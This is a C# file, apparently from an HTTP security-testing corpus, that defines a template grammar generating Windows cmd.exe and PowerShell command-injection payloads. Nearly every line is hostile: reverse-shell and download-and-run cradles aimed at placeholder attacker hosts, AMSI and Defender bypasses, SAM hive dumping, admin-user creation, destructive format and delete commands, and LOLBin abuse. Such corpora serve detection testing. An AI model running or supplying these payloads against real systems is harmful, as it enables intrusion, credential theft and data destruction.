namespace Weir.Http.Corpus.Attacks;

/// <summary>Command injection into cmd.exe and PowerShell.</summary>
internal static class RceWindows
{
    public const string Text = """"
        §win
        6× «wpre»«wsep»«wcmd»«wpost»
        4× «powershell»
        3× «wsep»«wcmd»
        2× «wbare»
        2× «wpre»«wsep»«powershell»
        2× «whidden»
        «lolbin»
        §wpre
        «word»"␠
        «word»'␠
        «num»"␠
        6×
        2× «num»
        2× «word»
        «127.0.0.1¦«ip»»
        "
        «word».«txt¦exe»
        §wsep
        5× &
        4× |
        4× &&
        3× ||
        2× ␠& ␠
        2× ␠| ␠
        ␠&& ␠
        «%26¦%7c¦%26%26¦%0a¦%0d%0a»
        "&
        "|
        '&
        ;
        ␤
        %1a
        §wpost
        8×
        2× &
        |
        «&&¦&rem ¦"¦&::¦ &echo.¦'¦;»
        §wexe
        5×
        2× cmd /c␠
        2× cmd.exe /c␠
        «%COMSPEC% /c ¦C:\Windows\System32\cmd.exe /c ¦cmd /k ¦cmd.exe /r ¦c:\winnt\system32\cmd.exe /c ¦start /b ¦start cmd /c »
        §wcmd
        5× «wexe»«dir¦ipconfig¦whoami¦ver¦hostname¦set¦systeminfo¦tasklist¦netstat -an¦net user¦ipconfig /all¦dir c:\¦dir /s¦net view¦net start¦arp -a¦route print¦quser¦vol¦chdir¦driverquery¦whoami /priv¦whoami /all¦net localgroup administrators¦cd¦tree c:\¦wmic process list¦gpresult /r¦schtasks /query»
        3× «wexe»type «winfile»
        «wexe»«ping -n «#1-40» «127.0.0.1¦«ip»»¦nslookup «oasthost»¦timeout /t «#1-30»¦ping -n 2 «oasthost»»
        «wexe»echo «rand»«¦ > «wout»»
        «wexe»net user «rand» «rand» /add«¦ && net localgroup administrators «rand» /add»
        «wexe»«del /f /q¦copy¦move¦attrib¦more <¦type¦icacls¦takeown /f» «winfile»
        «wexe»reg «query¦add¦save» HK«LM\«SAM¦SYSTEM¦SOFTWARE\Microsoft\Windows\CurrentVersion\Run»¦CU\Software\«word»»«¦ /v «rand» /t REG_SZ /d «wout»»
        «wexe»«calc¦calc.exe¦notepad¦notepad.exe¦mspaint¦shutdown /s /t 0¦shutdown -r -f¦taskkill /f /im «word».exe¦format c:¦rd /s /q c:\»
        «wexe»sc «create «rand» binpath= "«wout»"¦query¦stop «word»¦config «rand»»
        «wexe»for /f "«delims=¦tokens=*»" %i in ('«whoami¦hostname¦dir /b»') do «nslookup¦ping -n 1» %i.«oasthost»
        «wexe»schtasks /create /sc minute /mo 1 /tn «rand» /tr «wout»
        «wexe»wmic «process call create "«cmd /c whoami¦calc¦«wout»»"¦os get /format:"«evilurl»"¦useraccount list»
        «wexe»findstr /«si¦s» «password¦pass» *.«txt¦xml¦config»
        «wexe»dir %«APPDATA¦USERPROFILE¦TEMP¦windir¦PUBLIC»%
        2× «wexe»echo «assembled» >> «rand»«¦.«com¦bin¦txt¦bat»»
        «wexe»«debug < «rand»¦certutil -decode «rand».txt «rand».exe¦copy /b «rand».bin+«rand».bin «wout»»
        §assembled
        2× «db¦e «hexdigit*4»¦e 0«hexdigit*3»» «hexbyte*4-20»
        «n «rand».com¦r cx¦«hexdigit*3-4»¦w¦q¦a «hexdigit*3»»
        TVqQAAMAAAAEAAAA«rand→b64»
        «set¦open¦user¦get¦binary¦bye» «evilhost»
        §hexbyte
        «hexdigit»«hexdigit»␠
        §wbare
        «cmd /c¦cmd.exe /c¦%COMSPEC% /c¦c:\winnt\system32\cmd.exe /c¦cmd /k» «wcmd»
        type «winfile»
        net user «rand» «rand» /add
        ping -n «#1-30» «127.0.0.1¦«ip»»
        §wout
        «c:¦C:»\«windows\temp¦users\public¦inetpub\wwwroot¦temp¦xampp\htdocs¦windows\tasks»\«rand».«txt¦exe¦bat¦aspx¦ps1¦php¦dll¦vbs»
        %TEMP%\«rand».«exe¦bat¦ps1»
        §psexe
        6× powershell
        4× powershell.exe
        2× «pwsh¦PowerShell¦powershell.exe -NoP -NonI¦C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe¦cmd /c powershell»
        «psword→case»
        §psword
        powershell
        §psflags
        3×
        ␠-«nop¦NoProfile¦NoP -sta¦noni» -«w hidden¦W Hidden¦ep bypass¦ExecutionPolicy Bypass¦exec bypass¦windowstyle hidden»
        ␠-ExecutionPolicy «Bypass¦Unrestricted»
        ␠-w 1
        §powershell
        5× «psexe»«psflags» -«c¦C¦Command¦command» «"¦»«pscode»«"¦»
        4× «psexe»«psflags» -«e¦enc¦EncodedCommand¦ec¦encodedcommand» «pscode→b64utf16»
        2× «psexe»«psflags» «pscode»
        2× «psexe»«psflags» «&{«pscode»}¦"& {«pscode»}"¦iex("«pscode»")¦-File «wout»»
        2× «pscode»
        §pscode
        4× «iex¦IEX¦Invoke-Expression»«¦ »(«(New-Object Net.WebClient)¦New-Object System.Net.WebClient¦New-Object Net.WebClient».«DownloadString¦downloadstring»('«evilurl»'))
        2× «iwr¦Invoke-WebRequest¦curl¦wget» «¦-Uri »«evilurl»«¦ -OutFile «wout»¦ -UseBasicParsing|iex¦|IEX¦ -o «wout»»
        2× (New-Object «System.»Net.WebClient).DownloadFile('«evilurl»','«wout»')«;Start-Process '«wout»'¦;&'«wout»'¦»
        2× «Get-Process¦Get-ChildItem C:\¦Get-Content «winfile»¦gci env:¦$PSVersionTable¦Get-Service¦gc «winfile»¦whoami¦hostname¦Get-LocalUser¦dir env:¦Get-WmiObject Win32_«Process¦UserAccount»¦Get-ADUser -Filter *¦Get-Host»
        Start-Sleep «¦-s »«#1-30»
        Start-Process «cmd.exe¦calc.exe¦«wout»»«¦ -Verb RunAs¦ -ArgumentList '/c whoami'»
        $«$c:rand»=New-Object System.Net.Sockets.TCPClient('«evilhost»',«port»);$s=$«$c».GetStream();[byte[]]$b=0..65535|%{0};while(($i=$s.Read($b,0,$b.Length)) -ne 0){$d=(New-Object Text.ASCIIEncoding).GetString($b,0,$i);$r=(iex $d 2>&1|Out-String)}
        [System.Diagnostics.Process]::Start("«cmd.exe","/c whoami¦calc»")
        [Ref].Assembly.GetType('System.Management.Automation.Am'+'siUtils').GetField('am'+'siInitFailed','NonPublic,Static').SetValue($null,$true)
        [System.Text.Encoding]::«UTF8¦Unicode».GetString([System.Convert]::FromBase64String('«rand→b64»'))|iex
        Invoke-«Mimikatz¦Command -ScriptBlock {whoami}¦WmiMethod -Class Win32_Process -Name Create -ArgumentList 'calc'¦RestMethod «evilurl»»
        Add-Type -TypeDefinition '«rand»'
        Set-MpPreference -DisableRealtimeMonitoring $true
        [System.Net.Dns]::GetHostAddresses('«oasthost»')
        «.¦&»(«'i'+'ex'¦"{1}{0}" -f 'x','ie'¦$env:ComSpec[4,24,25]-join''¦gcm i*x»)«pscode»
        §whidden
        3× «wpre»«wsep»«wword→careted»
        2× «wpre»«wsep»«wword→case»
        «wpre»«wsep»%«ProgramFiles:~«#10-12»,1%¦PROGRAMFILES:~10,-5%¦comspec:~-7,1%»«dir¦whoami¦ping «ip»»
        «wpre»«wsep»set «$v:letter»=«who¦net¦di»&&call %«$v»%«ami¦ user¦r»
        «wpre»«wsep»c^m^d /c «wword→careted»
        «wpre»«wsep»«wword→careted→case»
        «wpre»«wsep»p^o^w^e^r^shell -c «pscode»
        «wpre»«wsep»"w"ho"am"i
        «wpre»«wsep»cmd /v:on /c "set «$v:letter»=«wword»&!«$v»!"
        §wword
        «whoami¦net user¦type «winfile»¦powershell -c «pscode»¦ipconfig /all¦dir c:\¦systeminfo¦ping -n «#1-9» «ip»»
        §lolbin
        certutil«.exe¦» -urlcache -«split -¦»f «evilurl» «wout»
        «mshta¦mshta.exe» ««evilurl»¦vbscript:Execute("CreateObject(""Wscript.Shell"").Run ""calc"":close")¦javascript:a=GetObject("script:«evilurl»").Exec();close();»
        regsvr32 /s /n /u /i:«evilurl» scrobj.dll
        rundll32«.exe¦» «javascript:"\..\mshtml,RunHTMLApplication ";document.write();GetObject("script:«evilurl»")¦\\«evilhost»\«word»\«rand».dll,«word»¦«wout»,Start»
        bitsadmin /transfer «rand» «/download /priority high ¦»«evilurl» «wout»
        msiexec /q«n¦» /i «evilurl»
        wscript //e:«vbscript¦jscript» «wout»
        cscript «¦//nologo »«wout» «evilurl»
        msbuild «wout»
        installutil /logfile= /LogToConsole=false /U «wout»
        forfiles /p c:\windows\system32 /m notepad.exe /c «calc¦"cmd /c whoami"»
        pcalua -a «wout»
        «net use \\«evilhost»\c$¦copy \\«evilhost»\«word»\«rand».exe «wout»¦start \\«evilhost»\«rand».exe»
        finger «word»@«evilhost» | cmd
        cmstp /s «wout»
        """";
}
